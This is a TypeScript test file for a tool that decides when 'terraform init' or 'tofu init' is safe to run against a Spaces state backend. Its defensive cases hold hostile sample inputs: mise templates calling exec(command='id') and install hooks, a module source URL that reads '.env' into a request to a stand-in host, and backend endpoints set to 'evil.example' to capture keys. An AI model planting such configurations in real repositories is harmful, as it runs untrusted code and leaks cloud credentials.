import { describe, expect, it } from "vitest";
import { planCommands } from "../../../../src/concerns/terraform/commands.ts";
import { planTerraform } from "../../../../src/concerns/terraform/plan.ts";
import { repoCodeFor } from "../../../../src/concerns/terraform/root/repo-code.ts";
import { generate } from "../../../../src/core/generated.ts";
import { joined } from "../../../../src/core/plan.ts";
import { revealed } from "../../../../src/secret/variables.ts";
import {
  afterwards,
  consent,
  facts,
  filesOf,
  type Given,
  planned,
} from "../../../fixtures/facts.ts";
import { said } from "../../../fixtures/hint.ts";

/** The plan for the root's files, and the commands that run after it. */
async function plan(given: Given | Promise<Given>) {
  const known = await facts({ config: "terraform: {}", ...(await given) });
  const [root] = known.terraform.roots;
  if (root === undefined) throw new Error("There is no root.");
  const files = joined([planTerraform(known, root, consent())]);
  return { files, part: planCommands(known, root, files) };
}

async function finished(given: Given): Promise<Given> {
  const { files } = await plan(given);
  return afterwards(given, files);
}

const BACKEND = "terraform: { backend: { bucket: acme, region: nyc3, key: web.tfstate } }";
const LOCK = BACKEND.replace("web.tfstate", "web.tfstate, lock: true");
const LOCKED = { "nyc3/acme/web.tfstate": {} };
const KEYS = { SPACES_ACCESS_KEY_ID: "id", SPACES_SECRET_ACCESS_KEY: "s3cr3t" };
const noted = (more: object = {}) => {
  const endpoints = { s3: "https://nyc3.digitaloceanspaces.com" };
  const config = { bucket: "acme", key: "web.tfstate", endpoints, ...more };
  return JSON.stringify({ backend: { type: "s3", config } });
};
const ON_SPACES = 'endpoints = { s3 = "https://nyc3.digitaloceanspaces.com" }';
const FORGED = generate(
  '# template: 1\nterraform {\n  backend "s3" {\n    profile = "x"\n  }\n}\n',
  {},
);
const LOCK_FILE = { "infra/.terraform.lock.hcl": "" };
const INIT = { "infra/.terraform/providers/x": "", ...LOCK_FILE };
const NOTED = { ...INIT, "infra/.terraform/terraform.tfstate": noted() };
const selected = (workspace: string) => ({ ...INIT, "infra/.terraform/environment": workspace });

/** A finished root with more files. */
async function done(more: Given["files"], given: Given = {}): Promise<Given> {
  const { files, ...rest } = await finished(given);
  return { ...rest, files: { ...files, ...more } };
}

describe("whether init runs", () => {
  it.each<[string, Given | Promise<Given>, readonly string[]]>([
    ["a new root", {}, ["terraform init"]],
    ["a new root, with tofu", { tools: ["tofu 1.11.0"] }, ["tofu init"]],
    ["no tool", { tools: [] }, []],
    ["a finished root that was not initialised", done({}), ["terraform init"]],
    ["a finished root that was initialised", done(INIT), []],
    [
      "a root whose init failed at a provider",
      done({ "infra/.terraform/modules/x": "" }),
      ["terraform init"],
    ],
    [
      "an initialised root with TF_DATA_DIR",
      done({ "data/providers/x": "", ...LOCK_FILE }, { env: { TF_DATA_DIR: "/repo/data" } }),
      ["warning terraform.environment"],
    ],
    ...[".tool-versions", "infra/.tool-versions", ".terraform-version"].map(
      (name): [string, Promise<Given>, readonly string[]] => [
        `${name} that makes a shim start a program in the repo`,
        done({ [name]: "nodejs 20\nterraform path:./tools\n" }),
        ["info terraform.by-hand"],
      ],
    ),
    [
      ".tool-versions with a template, which mise evaluates",
      done({ ".tool-versions": 'terraform {{ exec(command="id") }}\n' }),
      ["info terraform.by-hand"],
    ],
    ...[
      ["env", '[tools]\nterraform = "1.11.4"\n[env]\nA = "b"\n'],
      ["a template", "[tools]\nterraform = \"{{ exec(command='id') }}\"\n"],
      ["a program path", '[tools]\nterraform = "path:./tools"\n'],
      ["options", '[tools]\nterraform = { version = "1.11.4", postinstall = "id" }\n'],
      ["a table of options", '[tools.terraform]\nversion = "1.11.4"\n'],
      ["hooks", '[hooks]\nenter = "id"\n'],
      ["settings", "[settings]\nexperimental = true\n"],
      ["a quoted section", '["env"]\nA = "b"\n'],
      ["a dotted key", 'env.A = "b"\n'],
    ].map(([what, text]): [string, Promise<Given>, readonly string[]] => [
      `a mise config with ${what}`,
      done({ "mise.toml": text }),
      ["info terraform.by-hand"],
    ]),
    ...[
      ".mise.toml",
      "infra/mise.local.toml",
      "mise.prod.toml",
      ".config/mise.toml",
      ".config/mise/conf.d/a.toml",
      "infra/.mise/config.toml",
    ].map((name): [string, Promise<Given>, readonly string[]] => [
      `a mise config in ${name}`,
      done({ [name]: '[env]\nA = "b"\n' }),
      ["info terraform.by-hand"],
    ]),
    [
      "a mise config with versions and tasks",
      done({
        "mise.toml":
          'min_version = "2026.1"\n# ours\n[tools]\nterraform = "1.11.4" # all\nnode = ["24", "22"]\n[tasks.plan]\nrun = "terraform plan"\n',
      }),
      ["terraform init"],
    ],
    [
      "another tool's config",
      done({ ".config/other.toml": '[env]\nA = "b"\n' }),
      ["terraform init"],
    ],
    [
      "version files with versions only",
      done({ ".tool-versions": "terraform 1.11.4\n", "infra/.terraform-version": "1.11.4\n" }),
      ["terraform init"],
    ],
    [
      "installed providers and a local state",
      done({
        ...INIT,
        "infra/versions.tf": undefined,
        "infra/terraform.tfstate": '{"resources":[{}]}',
      }),
      ["info terraform.by-hand"],
    ],
    [
      "installed providers and local states of workspaces",
      done({ ...INIT, "infra/versions.tf": undefined, "infra/terraform.tfstate.d/a/x": "" }),
      ["info terraform.by-hand"],
    ],
    [
      "a local state, and no providers yet",
      done({ "infra/terraform.tfstate": '{"resources":[{}]}' }),
      ["terraform init"],
    ],
    ["init: false", { config: "terraform: { init: false }" }, []],
    ["versions.tf changes", done({ ...INIT, "infra/versions.tf": undefined }), ["terraform init"]],
    ["only provider.tf changes", done({ ...INIT, "infra/provider.tf": undefined }), []],
    ["do-bootstrap.tf changes", { files: { ...INIT, "infra/main.tf": "" } }, ["terraform init"]],
    ["code that can't be parsed", { files: { "infra/main.tf": "a {" } }, []],
    ["a root that is a link to outside the repo", { files: { infra: { leadsTo: "/else" } } }, []],
  ])("%s", async (_, given, expected) => {
    expect(planned((await plan(given)).part)).toEqual(expected);
  });
});

it.each([
  ["mise.toml", true, ["/repo/mise.toml"]],
  ["mise.toml", false, []],
  [".tool-versions", false, ["/repo/.tool-versions"]],
])("the repo's code in %s, if a shim may start: %s", async (name, startsShim, expected) => {
  const text = "[tools]\nterraform path:./tools\n";
  const host = { files: filesOf({ files: { [name]: text } }), env: {}, home: "/home/sammy" };
  const found = await repoCodeFor(host, ["/repo/infra"], "/repo", () => startsShim);
  expect(found.get("/repo/infra")).toEqual(expected);
});

describe("when it is not certain which tool is used", () => {
  const tofu = { tools: ["tofu 1.12.0"] };
  const local = 'module "a" {\n  source = "./a"\n}\n';
  const hand = ["info terraform.by-hand"];

  it.each<[string, Given | Promise<Given>, readonly string[]]>([
    [
      "tofu, and no .tofu file",
      done({ "infra/b.tf": local, "infra/a/b.tf": "" }, tofu),
      ["tofu init"],
    ],
    [
      "tofu, and a .tofu file",
      done({ "infra/b.tf": local, "infra/a/b.tf": "", "infra/c.tofu": "" }, tofu),
      hand,
    ],
    [
      "tofu, and a .tofu file in a module",
      done({ "infra/b.tf": local, "infra/a/b.tf": "", "infra/a/b.tofu": "" }, tofu),
      hand,
    ],
    [
      "terraform, which does not read the .tofu file",
      done({ "infra/b.tf": "", "infra/c.tofu": "" }),
      ["terraform init"],
    ],
    [
      "tofu in the config, and a .tofu file",
      done(
        { "infra/b.tf": local, "infra/a/b.tofu": "" },
        { ...tofu, config: "terraform: { tool: tofu }" },
      ),
      ["tofu init"],
    ],
  ])("%s", async (_, given, expected) => {
    expect(planned((await plan(given)).part)).toEqual(expected);
  });
});

describe("when init would run code or send data that the repo sets", () => {
  const tofu = { tools: ["tofu 1.11.0"] };
  const module = (source: string, more = "") => `module "a" {\n  source = ${source}\n${more}}\n`;
  const made = module('"https://a.example/?${file(".env")}"');
  const block = (body: string) => `terraform {\n  ${body}\n}\n`;
  const local = block('backend "local" {}');
  const far = module('"a/b/c"');
  const stored = (type: string) => JSON.stringify({ backend: { type, config: {} } });
  const byHand = ["info terraform.by-hand"];

  it.each<[string, Given, readonly string[]]>([
    ...[
      ".terraform",
      ".terraform/providers",
      ".terraform/terraform.tfstate",
      ".terraform.lock.hcl",
      "terraform.tfstate.d",
    ].map((name): [string, Given, readonly string[]] => [
      `a link to outside the repo at ${name}`,
      { files: { "infra/a.tf": "", [`infra/${name}`]: { text: "", leadsTo: `/else/${name}` } } },
      byHand,
    ]),
    ["a remote module", { files: { "infra/a.tf": far } }, ["terraform init"]],
    [
      "a remote module, with a version that evaluates sources",
      { tools: ["terraform 1.15.0"], files: { "infra/a.tf": far } },
      byHand,
    ],
    [
      "a remote module, with an unknown version",
      { tools: ["terraform"], files: { "infra/a.tf": far } },
      byHand,
    ],
    ["a remote module, with tofu", { ...tofu, files: { "infra/a.tf": far } }, byHand],
    [
      "a local module, with tofu",
      { ...tofu, files: { "infra/a.tf": module('"../m"'), "m/m.tf": "locals {\n}\n" } },
      ["tofu init"],
    ],
    ["a source from an expression", { ...tofu, files: { "infra/a.tf": made } }, byHand],
    [
      "a source from an expression, in a local module",
      { ...tofu, files: { "infra/a.tf": module('"../m"'), "m/m.tofu": made } },
      byHand,
    ],
    [
      "a local module that does not exist",
      { ...tofu, files: { "infra/a.tf": module('"./x"', "count = 0\n") } },
      byHand,
    ],
    [
      "a remote module in JSON, with escapes",
      { ...tofu, files: { "infra/a.tf.json": '{"\\u006dodule": {"a": {"source": "a/b/c"}}}' } },
      byHand,
    ],
    ["a test file", { ...tofu, files: { "infra/tests/a.tftest.hcl": "" } }, byHand],
    [
      "a local module that can't be parsed",
      { ...tofu, files: { "infra/a.tf": module('"../m"'), "m/m.tf": "module {" } },
      byHand,
    ],
    [
      "encryption with an external program",
      {
        ...tofu,
        files: { "infra/a.tf": block('encryption {\n    key_provider "external" "x" {}\n  }') },
      },
      byHand,
    ],
    [
      "a block of a later version, in JSON",
      { files: { "infra/a.tf.json": '{"terraform": {"state_store": {"x": {}}}}' } },
      byHand,
    ],
    [
      "stored settings of a backend other than the code's",
      {
        files: { "infra/a.tf": local, "infra/.terraform/terraform.tfstate": stored("kubernetes") },
      },
      byHand,
    ],
    [
      "stored settings of the code's local backend",
      { files: { "infra/a.tf": local, "infra/.terraform/terraform.tfstate": stored("local") } },
      ["terraform init"],
    ],
    [
      "installed providers, and a local backend with a path",
      { files: { ...INIT, "infra/a.tf": block('backend "local" {\n    path = "x"\n  }') } },
      byHand,
    ],
  ])("%s", async (_, given, expected) => {
    expect(planned((await plan(given)).part)).toEqual(expected);
  });

  it("variables that point into the repo are not passed on", async () => {
    const env = {
      PATH: "/repo/node_modules/.bin:/usr/bin",
      GIT_CONFIG_GLOBAL: "/repo/gitconfig",
      GIT_SSH_COMMAND: "ssh -F /repo/ssh",
      TF_DATA_DIR: "/repo/data",
      AWS_REGION: "nyc3",
    };
    const [{ without = [], with: given = new Map() } = {}] =
      (await plan({ env })).part.commands ?? [];
    const kept = Object.keys(env).filter((name) => !without.includes(name));
    expect(kept).toEqual(["PATH", "TF_DATA_DIR", "AWS_REGION"]);
    expect(given.get("PATH")).toBe("/usr/bin");
  });
});

describe("with a state on Spaces", () => {
  const given = { config: BACKEND, env: KEYS };
  const locked = { config: LOCK, env: KEYS, locks: LOCKED };
  const local = { "infra/terraform.tfstate": '{"resources":[{}]}' };
  const elsewhere = { ...INIT, "infra/.terraform/terraform.tfstate": noted({ bucket: "b" }) };
  const own =
    'terraform {\n  backend "s3" {\n    bucket = "acme"\n    key = "web.tfstate"\n  }\n}\n';

  it.each<[string, Given | Promise<Given>, readonly string[]]>([
    ["a new root", given, ["terraform init"]],
    ["without keys", { config: BACKEND }, []],
    ["with an AWS profile", { config: BACKEND, env: { AWS_PROFILE: "x" } }, ["terraform init"]],
    ["connected", done(NOTED, given), []],
    [
      "the repo's local backend",
      done({ ...INIT, "infra/main.tf": 'terraform {\n  backend "local" {}\n}\n' }, given),
      [],
    ],
    ["installed providers, but not connected", done(INIT, given), ["terraform init"]],
    ["a local state, which has to be migrated", done({ ...INIT, ...local }, given), []],
    [
      "an empty local state",
      done({ ...INIT, "infra/terraform.tfstate": "{}" }, given),
      ["terraform init"],
    ],
    ["a state in another bucket", done(elsewhere, given), []],
    [
      "backend.tf changes, but not the state's place",
      done({ ...NOTED, "infra/backend.tf": undefined }, given),
      ["terraform init -reconfigure"],
    ],
    ["a new lock", done(NOTED, locked), ["terraform init -reconfigure"]],
    [
      "an existing lock",
      done(
        { ...INIT, "infra/.terraform/terraform.tfstate": noted({ use_lockfile: true }) },
        locked,
      ),
      [],
    ],
    [
      "the repo's backend block",
      done({ ...NOTED, "infra/backend.tf": undefined, "infra/main.tf": own }, given),
      [],
    ],
  ])("%s", async (_, each, expected) => {
    expect(planned((await plan(each)).part)).toEqual(expected);
  });
});

describe("a backend that could send keys to another host", () => {
  const evil = 'endpoints = { s3 = "https://evil.example" }';
  const block = (body: string, type = "s3") =>
    `terraform {\n  backend "${type}" {\n    ${body}\n  }\n}\n`;
  const given = { config: BACKEND, env: KEYS };
  const prod = { config: `${BACKEND.slice(0, -1)}, workspace: prod }`, env: KEYS };
  const changed = (more: object) => ({
    ...INIT,
    "infra/.terraform/terraform.tfstate": noted(more),
  });
  const SAME = 'bucket = "acme"\n key = "web.tfstate"';
  const AWS = { ".env": "AWS_ACCESS_KEY_ID=a\nAWS_SECRET_ACCESS_KEY=b\n" };

  it.each<[string, Given | Promise<Given>, readonly string[]]>([
    [
      "stored settings as in the config",
      done(changed({}), prod),
      ["terraform workspace select -or-create prod"],
    ],
    [
      "stored settings with a host for another service",
      done(changed({ sts_endpoint: "https://evil.example" }), prod),
      ["info terraform.by-hand"],
    ],
    [
      "stored settings with a profile",
      done(changed({ profile: "x" }), prod),
      ["info terraform.by-hand"],
    ],
    [
      "in an override file, next to a local backend",
      {
        files: { "infra/main.tf": block("", "local"), "infra/x_override.tf": block(evil) },
      },
      ["info terraform.by-hand"],
    ],
  ])("%s: the commands that run", async (_, each, expected) => {
    expect(planned((await plan(each)).part)).toEqual(expected);
  });

  it.each<[string, Given, string]>([
    ["on Spaces", { ...given, files: { "infra/main.tf": block(`${SAME}\n ${ON_SPACES}`) } }, ""],
    ["on another host", { ...given, files: { "infra/main.tf": block(evil) } }, "SPACES_* keys"],
    [
      "on Spaces with a profile, and no backend in the config",
      {
        ...{ config: "terraform: {}", env: KEYS },
        files: { "infra/main.tf": block(`${ON_SPACES}\n profile = "x"`) },
      },
      "SPACES_* keys",
    ],
    [
      "on AWS, and no backend in the config",
      { config: "terraform: {}", env: KEYS, files: { "infra/main.tf": block(SAME) } },
      "",
    ],
    ["on AWS", { ...given, files: { "infra/main.tf": block(SAME) } }, "SPACES_* keys"],
    ["a forged backend.tf", { ...given, files: { "infra/backend.tf": FORGED } }, "SPACES_* keys"],
    [
      "on another host, with AWS keys in the env file",
      { config: "terraform: {}", files: { "infra/main.tf": block(evil), ...AWS } },
      "AWS_* keys",
    ],
    [
      "on another host, in a file that the root's tool does not read",
      {
        config: "terraform: { tool: terraform }",
        files: { "infra/main.tf": "", "infra/b.tofu": block(evil), ...AWS },
      },
      "AWS_* keys",
    ],
    [
      "on another host, in a .tf file that a .tofu file replaces",
      {
        config: "terraform: { tool: tofu }",
        files: { "infra/b.tf": block(evil), "infra/b.tofu": "", ...AWS },
      },
      "AWS_* keys",
    ],
    [
      "on AWS, with AWS keys in the env file",
      { config: "terraform: {}", files: { "infra/main.tf": block(SAME), ...AWS } },
      "",
    ],
    ["on another host, without keys", { files: { "infra/main.tf": block(evil) } }, ""],
  ])("%s: withheld keys are reported", async (_, each, kept) => {
    const { files } = await plan(each);
    const found = files.findings.find(({ id }) => id === "backend.not-spaces");
    expect(found?.message ?? "").toContain(kept);
    expect(found !== undefined).toBe(kept !== "");
  });
});

describe("the workspace", () => {
  const prod = "terraform: { workspace: prod }";

  it.each<[string, Given | Promise<Given>, readonly string[]]>([
    ["none is configured", done(selected("x")), []],
    ["the configured one is selected", done(selected("prod\n"), { config: prod }), []],
    [
      "another one is selected",
      done(selected("x"), { config: prod }),
      ["terraform workspace select -or-create prod"],
    ],
    [
      "none is selected",
      done(INIT, { config: prod }),
      ["terraform workspace select -or-create prod"],
    ],
    [
      "default is configured, and none is selected",
      done(INIT, { config: "terraform: { workspace: default }" }),
      [],
    ],
    [
      "a new root",
      { config: prod },
      ["terraform init", "terraform workspace select -or-create prod"],
    ],
  ])("%s", async (_, given, expected) => {
    expect(planned((await plan(given)).part)).toEqual(expected);
  });
});

describe("variables that change what Terraform does", () => {
  const warned = ["warning terraform.environment"];

  it.each<[string, Given | Promise<Given>, readonly string[]]>([
    [
      "TF_WORKSPACE with another workspace",
      done(selected("a"), { config: "terraform: { workspace: a }", env: { TF_WORKSPACE: "b" } }),
      warned,
    ],
    [
      "TF_WORKSPACE with the same workspace",
      done(selected("a"), { config: "terraform: { workspace: a }", env: { TF_WORKSPACE: "a" } }),
      [],
    ],
    [
      "TF_WORKSPACE, and no workspace in the config",
      done(INIT, { env: { TF_WORKSPACE: "b" } }),
      [],
    ],
    ["TF_CLI_ARGS", done(INIT, { env: { TF_CLI_ARGS: "-x" } }), warned],
    [
      "TF_CLI_ARGS_ for two commands",
      done(INIT, { env: { TF_CLI_ARGS_plan: "-x", TF_CLI_ARGS_apply: "-x" } }),
      [...warned, ...warned],
    ],
    ["an empty TF_CLI_ARGS", done(INIT, { env: { TF_CLI_ARGS: "" } }), []],
    ["TF_CLI_CONFIG_FILE", done(INIT, { env: { TF_CLI_CONFIG_FILE: "x" } }), []],
    ["the token's variable", done(INIT, { env: { TF_VAR_do_token: "" } }), warned],
    [
      "the token's variable, with credentials: env",
      done(INIT, { config: "terraform: { credentials: env }", env: { TF_VAR_do_token: "x" } }),
      [],
    ],
    ["TF_CLI_ARGS without a tool", done(INIT, { tools: [], env: { TF_CLI_ARGS: "-x" } }), []],
  ])("%s", async (_, given, expected) => {
    expect(planned((await plan(given)).part)).toEqual(expected);
  });

  it("get a fix that unsets them", async () => {
    const { part } = await plan(done(INIT, { env: { TF_CLI_ARGS_plan: "-x" } }));
    expect(said(part.findings?.[0]?.fix)).toBe("unset TF_CLI_ARGS_plan");
  });
});

describe("the environment of a command", () => {
  it.each<[string, Given, readonly string[], readonly string[]]>([
    [
      "without a state on Spaces",
      {},
      ["TF_WORKSPACE", "TF_VAR_do_token", "DIGITALOCEAN_TOKEN"],
      [],
    ],
    [
      "the token under any name",
      {
        config: "token: { name: ACME_TOKEN }\nterraform: { variable: pat }",
        env: { DIGITALOCEAN_X: "1", A: "1" },
      },
      ["TF_VAR_pat", "ACME_TOKEN", "DIGITALOCEAN_X"],
      [],
    ],
    [
      "a second provider's token",
      {
        files: {
          "infra/main.tf": 'provider "digitalocean" {\n  alias = "eu"\n  token = var.eu\n}\n',
        },
      },
      ["TF_VAR_eu"],
      [],
    ],
    [
      "a provider's Spaces keys",
      {
        env: KEYS,
        files: {
          "infra/main.tf":
            'provider "digitalocean" {\n  spaces_access_id = var.a\n  spaces_secret_key = var.b\n}\nvariable "a" {}\nvariable "b" {}\n',
        },
      },
      ["TF_VAR_a", "TF_VAR_b"],
      [],
    ],
    [
      "the state's keys, under the names that the backend reads",
      { config: BACKEND, env: KEYS },
      [],
      [
        "AWS_ACCESS_KEY_ID",
        "AWS_REQUEST_CHECKSUM_CALCULATION",
        "AWS_RESPONSE_CHECKSUM_VALIDATION",
        "AWS_SECRET_ACCESS_KEY",
      ],
    ],
  ])("%s", async (_, given, without, added) => {
    const [command] = (await plan(given)).part.commands ?? [];
    expect(command?.without).toEqual(expect.arrayContaining([...without]));
    expect([...(command?.with.keys() ?? [])].sort()).toEqual(added);
    expect(command).toMatchObject({ cwd: "/repo/infra", tool: { path: "/usr/bin/terraform" } });
    expect(command?.args).toEqual(expect.arrayContaining(["-no-color", "-input=false"]));
  });

  // OpenTofu evaluates a module's source with the values of tfvars files.
  it.each<[string, Given, readonly string[]]>([
    ["terraform", {}, []],
    ["tofu", { tools: ["tofu 1.11.0"] }, ["-var=do_token="]],
    [
      "tofu, and tokens in the repo's own variables",
      {
        tools: ["tofu 1.11.0"],
        files: {
          "infra/main.tf":
            'provider "digitalocean" {\n  token = var.pat\n}\nprovider "digitalocean" {\n  alias = "eu"\n  token = var.eu\n}\n',
        },
      },
      ["-var=pat=", "-var=eu="],
    ],
    [
      "tofu, and Spaces keys in two variables, one of them declared",
      {
        ...{ tools: ["tofu 1.11.0"], config: "terraform: { credentials: env }" },
        files: {
          "infra/main.tf":
            'provider "digitalocean" {\n  spaces_access_id = var.a\n  spaces_secret_key = var.b\n}\nvariable "b" {}\n',
        },
      },
      ["-var=b="],
    ],
    [
      "tofu, with credentials: env",
      { tools: ["tofu 1.11.0"], config: "terraform: { credentials: env }" },
      [],
    ],
  ])("variables set to empty: %s", async (_, given, expected) => {
    const [command] = (await plan(given)).part.commands ?? [];
    expect(command?.args.filter((arg) => arg.startsWith("-var"))).toEqual(expected);
  });

  it("removes the run's secrets by value, and sets the keys that it needs", async () => {
    const envFile = `A_PASSWORD=hunter2\nREGION=nyc3\nAWS_SECRET_ACCESS_KEY=aws-key\n`;
    const env = { SPACES_SECRET_ACCESS_KEY: "spaces-key", AWS_ACCESS_KEY_ID: "aws-id" };
    const of = async (config: string) => {
      const { part } = await plan({ config, env, files: { ".env": envFile } });
      const [{ secrets = [], with: given = new Map() } = {}] = part.commands ?? [];
      return [
        secrets.map(({ origin }) => ("name" in origin ? origin.name : origin.kind)),
        given,
      ] as const;
    };
    const names = [
      "DIGITALOCEAN_TOKEN",
      "A_PASSWORD",
      "AWS_SECRET_ACCESS_KEY",
      "SPACES_SECRET_ACCESS_KEY",
    ];
    const [secrets, given] = await of(BACKEND);
    expect(secrets).toEqual(names);
    expect(Object.fromEntries(revealed(given))).toMatchObject({
      AWS_ACCESS_KEY_ID: "aws-id",
      AWS_SECRET_ACCESS_KEY: "aws-key",
    });
    expect(await of("terraform: {}")).toEqual([names, new Map()]);
  });

  it("does not show keys", async () => {
    const [command] = (await plan({ config: BACKEND, env: KEYS })).part.commands ?? [];
    expect(JSON.stringify([...(command?.with ?? [])])).not.toContain("s3cr3t");
  });
});

it.each<[string, Given, readonly RegExp[]]>([
  ["providers", {}, [/provider/]],
  ["providers and a state", { config: BACKEND, env: KEYS }, [/provider.*state/]],
  [
    "providers and a workspace",
    { config: "terraform: { workspace: a }" },
    [/provider/, /workspace a/],
  ],
])("the reason: %s", async (_, given, why) => {
  const { commands = [] } = (await plan(given)).part;
  expect(commands.map((each) => each.why)).toEqual(why.map((each) => expect.stringMatching(each)));
});
